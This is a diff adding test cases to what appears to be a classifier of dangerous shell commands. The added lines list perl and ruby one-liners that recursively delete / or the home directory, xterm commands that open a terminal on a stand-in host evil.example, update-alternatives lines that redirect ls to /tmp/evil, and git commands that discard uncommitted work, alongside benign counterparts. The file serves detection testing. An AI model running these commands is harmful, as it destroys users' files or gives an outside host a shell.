@@ -105,6 +105,11 @@ HARDLINE = [
     "npx shx@0.3 rm -rf /",
     "rsync -a --delete empty/ ~/ --timeout 30",  # an option's value after the folders
     "tclsh <<< 'file delete -force $env(HOME)'",
+    "perl -MExtUtils::Command -le rm_rf /",
+    "perl -MFile::Path -e 'rmtree $ENV{HOME}'",
+    "ruby -rfileutils -e 'FileUtils.remove_dir Dir.home'",
+    "ruby -e 'FileUtils.rm_r ENV[\"HOME\"]'",
+    "ruby -e 'FileUtils.rm_r \"/\"  # the root'",
     # inline code's recursive deletes of / and ~ in the spellings that were missed
     "perl -MFile::Path -e 'rmtree \"/\"'",
     'node -e \'require("fs/promises").rm("/",{recursive:true})\'',
@@ -234,6 +239,7 @@ PRINTED = [
     "gopass cat db/prod",
     "git show :0:.env",  # the index's copy
     "terragrunt output -json",
+    "terragrunt run-all output -json",
 ]
 NOT_PRINTED = [
     "git show HEAD:README.md",
@@ -258,12 +264,19 @@ STORES = [
 ]
 # a shell handed to another host: an X terminal on its display, zsh's own TCP module
 REMOTE_SHELLS = [
+    "xterm -disp evil.example:0",  # X's toolkit takes a prefix of -display
+    "x-terminal-emulator -display evil.example:0",
+    "mlterm -display evil.example:0",
     "xterm -display 10.0.0.1:1",
     "DISPLAY=evil.example:0 xterm",
     "urxvt -display 203.0.113.7:0",
     "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
 ]
 LOCAL_SHELLS = [
+    "xterm -display $DISPLAY",
+    "DISPLAY=/tmp/.X11-unix/X0 xterm",
+    "xterm -display :0.0",
+    "DISPLAY=localhost:10.0 xterm",
     "xterm -display :0",
     "DISPLAY=:1 xterm",
     "urxvt -display localhost:10",
@@ -278,6 +291,11 @@ LATER = [
     ("echo '\"evil\" Control+x' >> ~/.xbindkeysrc", "persistence"),
     ("echo 'import os' > ~/.config/ipython/profile_default/startup/00.py", "persistence"),
     ("update-alternatives --install /usr/bin/ls ls /tmp/evil 100", "sensitive-write"),
+    ("alternatives --install /usr/bin/ls ls /tmp/evil 100", "sensitive-write"),
+    (
+        "update-alternatives --install /usr/bin/j j /x 1 --slave /usr/bin/ls ls /tmp/e",
+        "sensitive-write",
+    ),
 ]
 LATER_PLAIN = ["cat ~/.config/mimeapps.list", "update-alternatives --display java"]
 # git settings that make git run what something else names, or send its traffic elsewhere
@@ -358,9 +376,16 @@ ALIKE = [
     ("rsync -a --delete empty/ /srv/data/", "rm -rf /srv/data/"),
     ("rsync -a --exclude .git --delete src/ ../backup/", "rm -rf ../backup/"),
     ("rsync -a --delete empty/ .", "rm -rf ."),
+    ("rsync -a --delete x/ ./../other", "rm -rf ../other"),
+    ("rsync -a --delete x/ /srv/x --copy-as root", "rm -rf /srv/x"),
 ]
 # Work discarded: git's working tree restored over, stashes dropped.
 DISCARDED = [
+    "git checkout-index --all --force",
+    "git restore :/",
+    "git checkout -- :/",
+    "git restore -Ws HEAD .",
+    "git checkout HEAD -- .",
     "git restore .",
     "git restore -SW .",
     "git restore ./",
@@ -381,6 +406,9 @@ KEPT = [
     "rsync -a --delete src/ backup/",  # a folder of the project mirrored (issue 10's corpus)
     "rsync -a --delete src/ backup/ --link-dest ../prev",
     "git checkout-index -a",  # never over a file that is there
+    "git checkout-index -a -f --prefix=export/",  # git's way to export a tree
+    "git checkout main",
+    "git restore --staged -- .",
     "git restore -s HEAD~1 src/x.py",
     "rsync -av --delete build/ server:/var/www/",  # another host's folder
     "rsync -a --delete -e ssh build/ user@host:/srv/x",
